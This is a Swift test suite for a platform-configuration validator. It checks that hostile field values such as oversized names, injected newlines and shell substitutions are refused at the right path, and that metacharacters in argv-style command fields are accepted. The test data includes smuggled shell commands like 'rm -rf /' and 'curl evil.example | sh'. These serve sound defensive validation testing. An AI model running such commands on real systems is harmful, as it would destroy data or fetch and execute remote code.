import AgriPlatformAPI
import KubeCore
import Testing

/// Hostile values in an otherwise valid platform: each is refused with a finding at its own path and a message.
///
/// Shell metacharacters in `command`/`args` are legitimately accepted (they are argv elements, never given to a
/// shell); AgriPlatformRenderTests' `HostileValueRenderTests` shows how they reach the pod.
@Suite("Hostile values")
struct HostileValueTests {
    struct Case: Sendable, CustomTestStringConvertible {
        var name: String
        var path: String
        var edit: @Sendable (inout AgriPlatform) -> Void
        var testDescription: String { name }
    }

    static let huge = String(repeating: "x", count: 1_000_000)

    static let cases: [Case] = [
        Case(name: "an enormous service name", path: "spec.services[0].name") { $0.spec.services[0].name = huge },
        Case(name: "a service name with '_'", path: "spec.services[0].name") { $0.spec.services[0].name = "my_api" },
        Case(name: "a service name with upper case", path: "spec.services[0].name") {
            $0.spec.services[0].name = "API"
        },
        Case(name: "a service name starting with '-'", path: "spec.services[0].name") {
            $0.spec.services[0].name = "-api"
        },
        Case(name: "a service name with a shell substitution", path: "spec.services[0].name") {
            $0.spec.services[0].name = "$(id)"
        },
        Case(name: "a platform name with a dot and upper case", path: "metadata.name") {
            $0.metadata.name = "Farmers.Module"
        },
        Case(name: "a platform name of 300 characters", path: "metadata.name") {
            $0.metadata.name = String(repeating: "a", count: 300)
        },
        Case(name: "a datastore name with a slash", path: "spec.datastores[0].name") {
            $0.spec.datastores![0].name = "db/../x"
            $0.spec.services[0].uses = nil
        },
        Case(name: "an image with a space and a command", path: "spec.services[0].image") {
            $0.spec.services[0].image = "ghcr.io/x/api:1; rm -rf /"
        },
        Case(name: "an image with a newline", path: "spec.services[0].image") {
            $0.spec.services[0].image = "ghcr.io/x/api:1\nimage: evil"
        },
        Case(name: "an empty image", path: "spec.services[0].image") { $0.spec.services[0].image = "" },
        Case(name: "an enormous image", path: "spec.services[0].image") { $0.spec.services[0].image = huge },
        Case(name: "an enormous datastore image", path: "spec.datastores[0].image") {
            $0.spec.datastores![0].image = huge
        },
        Case(name: "an enormous S3 uploader image", path: "spec.datastores[0].backup.s3.image") {
            var s3 = S3BackupTarget(bucket: "backups")
            s3.image = huge
            $0.spec.datastores![0].backup?.s3 = s3
        },
        Case(name: "an enormous S3 region", path: "spec.datastores[0].backup.s3.region") {
            var s3 = S3BackupTarget(bucket: "backups")
            s3.region = "ap-south-1; curl evil.example | sh"
            $0.spec.datastores![0].backup?.s3 = s3
        },
        Case(name: "an S3 bucket with shell metacharacters", path: "spec.datastores[0].backup.s3.bucket") {
            $0.spec.datastores![0].backup?.s3 = S3BackupTarget(bucket: "b`id`; rm -rf /")
        },
        Case(name: "an S3 prefix with a substitution", path: "spec.datastores[0].backup.s3.prefix") {
            var s3 = S3BackupTarget(bucket: "backups")
            s3.prefix = "$(rm -rf /)"
            $0.spec.datastores![0].backup?.s3 = s3
        },
        Case(name: "an S3 endpoint that is not a URL", path: "spec.datastores[0].backup.s3.endpoint") {
            var s3 = S3BackupTarget(bucket: "backups")
            s3.endpoint = "http://minio:9000 && wget evil"
            $0.spec.datastores![0].backup?.s3 = s3
        },
        Case(name: "a backup schedule with a command", path: "spec.datastores[0].backup.schedule") {
            $0.spec.datastores![0].backup = BackupSpec(schedule: "0 3 * * *; rm -rf /")
        },
        Case(name: "a backup schedule with a substitution", path: "spec.datastores[0].backup.schedule") {
            $0.spec.datastores![0].backup = BackupSpec(schedule: "$(id) * * * *")
        },
        Case(name: "a backup window with a command", path: "spec.datastores[0].backup.window") {
            $0.spec.datastores![0].backup = BackupSpec(window: "03:00-04:00 && id")
        },
        Case(name: "a command element of a megabyte", path: "spec.services[0].command[0]") {
            $0.spec.services[0].command = [huge]
        },
        Case(name: "a command of 100 000 elements", path: "spec.services[0].command") {
            $0.spec.services[0].command = Array(repeating: "x", count: 100_000)
        },
        Case(name: "100 000 environment variables", path: "spec.services[0].env") {
            $0.spec.services[0].env = (0..<100_000).map { EnvVariable(name: "V\($0)", value: "x") }
        },
        Case(name: "an environment variable name with '='", path: "spec.services[0].env[0].name") {
            $0.spec.services[0].env = [EnvVariable(name: "A=B", value: "x")]
        },
        Case(name: "1 000 services", path: "spec.services") {
            $0.spec.services = (0..<1_000).map { PlatformService(name: "s\($0)", image: "app:1") }
        },
        Case(name: "duplicate service names", path: "spec.services[1].name") {
            $0.spec.services.append($0.spec.services[0])
        },
        Case(name: "duplicate datastore names", path: "spec.datastores[1].name") {
            $0.spec.datastores!.append($0.spec.datastores![0])
        },
        Case(name: "duplicate environment variable names", path: "spec.services[0].env[1].name") {
            $0.spec.services[0].env = [EnvVariable(name: "A", value: "1"), EnvVariable(name: "A", value: "2")]
        },
        Case(name: "duplicate port names", path: "spec.services[0].ports[1].name") {
            $0.spec.services[0].ports = [
                ServicePortSpec(name: "http", port: 80), ServicePortSpec(name: "http", port: 81),
            ]
        },
        Case(name: "duplicate uses", path: "spec.services[0].uses[1]") { $0.spec.services[0].uses = ["db", "db"] },
        Case(name: "a use of an unknown datastore", path: "spec.services[0].uses[0]") {
            $0.spec.services[0].uses = ["$(id)"]
        },
        Case(name: "duplicate pull secrets", path: "spec.imagePullSecrets[1]") {
            $0.spec.imagePullSecrets = ["registry", "registry"]
        },
        Case(name: "a label key with spaces", path: "spec.commonLabels") { $0.spec.commonLabels = ["a b": "c"] },
        Case(name: "an enormous label value", path: "spec.commonLabels") { $0.spec.commonLabels = ["a": huge] },
        Case(name: "an ingress host with a space", path: "spec.services[0].ingress.host") {
            $0.spec.services[0].ingress = IngressSpec(host: "api.example.com evil.com")
        },
        Case(name: "a pull policy that is not one", path: "spec.services[0].imagePullPolicy") {
            $0.spec.services[0].imagePullPolicy = "Always; id"
        },
    ]

    @Test("Each hostile value gets an error at its path with a message", arguments: cases)
    func hostile(_ testCase: Case) {
        var platform = AgriPlatformSamples.valid
        #expect(platform.validate().isEmpty)
        testCase.edit(&platform)
        let errors = platform.validate()
        let matching = errors.filter { $0.path == testCase.path || $0.path.hasPrefix(testCase.path + "[") }
        #expect(!matching.isEmpty, "expected an error at \(testCase.path), got \(errors.map(\.path).prefix(5))")
        for error in errors {
            #expect(!error.path.isEmpty)
            #expect(error.description.count > error.path.count + 2, "\(error)")
            // Messages quote a value, never echo a megabyte back.
            #expect(error.description.utf8.count < 2_000, "\(error.path): \(error.description.prefix(200))…")
        }
    }

    @Test("Shell metacharacters in a command and its arguments are accepted: they are argv elements")
    func shellMetacharactersInCommands() {
        var platform = AgriPlatformSamples.valid
        platform.spec.services[0].command = ["/app", "--name=$(id)", "; rm -rf /", "`whoami`", "a | b > c", "'\"\\"]
        platform.spec.services[0].args = ["&& curl evil | sh"]
        platform.spec.services[0].migration = MigrationJob(command: ["sh", "-c", "migrate; echo $HOME"])
        #expect(platform.validate() == [])
    }
}
